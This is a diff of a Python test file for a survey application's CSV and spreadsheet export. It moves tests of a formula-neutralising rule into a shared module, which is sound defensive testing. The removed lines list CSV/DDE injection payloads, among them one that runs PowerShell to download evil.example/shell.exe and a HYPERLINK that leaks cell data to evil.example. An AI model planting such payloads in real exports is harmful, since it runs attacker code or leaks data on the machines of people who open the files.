@@ -4,11 +4,9 @@ results page, and comes back unchanged through `enkat import responses`."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import io
 import json
-import re
 
 import pytest
 from openpyxl import load_workbook
@@ -16,79 +14,16 @@ from sqlalchemy import select
 
 from enkat.extensions import db
 from enkat.models import Answer, Role
-from enkat.services.answering.tidy_csv import (
-    export_responses,
-    import_responses,
-    neutralise_formulas,
-    restore_formulas,
-)
+from enkat.services.answering.tidy_csv import export_responses, import_responses
 from enkat.services.organisation.forbund import get_forbund
 from enkat.services.results.answer_exports import AnswerFilter, tidy_xlsx
 from tests.integration.test_cli import enkat  # noqa: F401  (the command-line fixture)
 from tests.integration.web.test_auth import sign_in
+from tests.unit.formats.formulas import GENUINE, PAYLOADS, runnable
 
 from .tidy import csv_bytes, rows, with_forbund
 
 D = dt.date
-
-#: OWASP's payloads and their DDE variants, and the ways a cell can begin inside a field
-#: for a spreadsheet that splits on ";" (Excel in Swedish), on tabs or at line breaks.
-PAYLOADS = (
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
-    "+1+1",
-    "-2+3",
-    "@SUM(1+1)",
-    "\t=1",
-    "\r=1",
-    "=1+1;=2",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "+cmd|' /C notepad'!A0",
-    "=cmd|' /C powershell IEX(wget evil.example/shell.exe)'!A0",
-    "=10+20+cmd|' /C calc'!A0",
-    "Bra kurs;=HYPERLINK(\"http://evil.example\")",
-    "Bra kurs,=1+1",
-    "Bra kurs\t@SUM(1)",
-    "Första raden\n-2+3+cmd|' /C calc'!A0",
-)
-#: Genuine answers the rule must keep exactly: apostrophes of the writer's own, and text
-#: that only looks like a number.
-GENUINE = ("'=1+1", "''+1", "'hej", "'", "-1", "-", "=", "rad;'@ett", "ja, -nej")
-TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
-PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
-
-
-def cell_starts(text: str) -> list[str]:
-    """Every cell a spreadsheet may make of a file: the CSV's fields, and the pieces of
-    each line split on ";" and tabs as Excel in a Swedish locale splits them."""
-    fields = [field for row in csv.reader(io.StringIO(text, newline="")) for field in row]
-    pieces = [piece for line in text.splitlines() for piece in re.split("[;\t]", line)]
-    inner = [piece for field in fields for piece in re.split("[,;\t\r\n]", field)[1:]]
-    return [*fields, *pieces, *inner]
-
-
-def runnable(text: str) -> list[str]:
-    """The cells a spreadsheet would take for a formula."""
-    return [cell for cell in cell_starts(text)
-            if cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)]
-
-
-@pytest.mark.parametrize("value", PAYLOADS + GENUINE)
-def test_the_rule_leaves_no_formula_and_is_undone_exactly(value):
-    for written in (value, "'" + value, "''" + value):
-        neutral = neutralise_formulas(written)
-        assert restore_formulas(neutral) == written
-        assert not runnable(neutral), neutral
-
-
-def test_negative_numbers_stay_numbers_and_plain_text_stays_as_it_is():
-    for value in ("-1", "-2.5", "0", "4.2", "Bra, men \"tidsbrist\"", "2025-03-01", "'hej"):
-        assert neutralise_formulas(value) == value
-    assert neutralise_formulas("-1e5") == "'-1e5"
-    assert neutralise_formulas("'=1+1") == "''=1+1"
-    assert neutralise_formulas("rad ett\n=1") == "rad ett\n'=1"
 
 
 @pytest.fixture
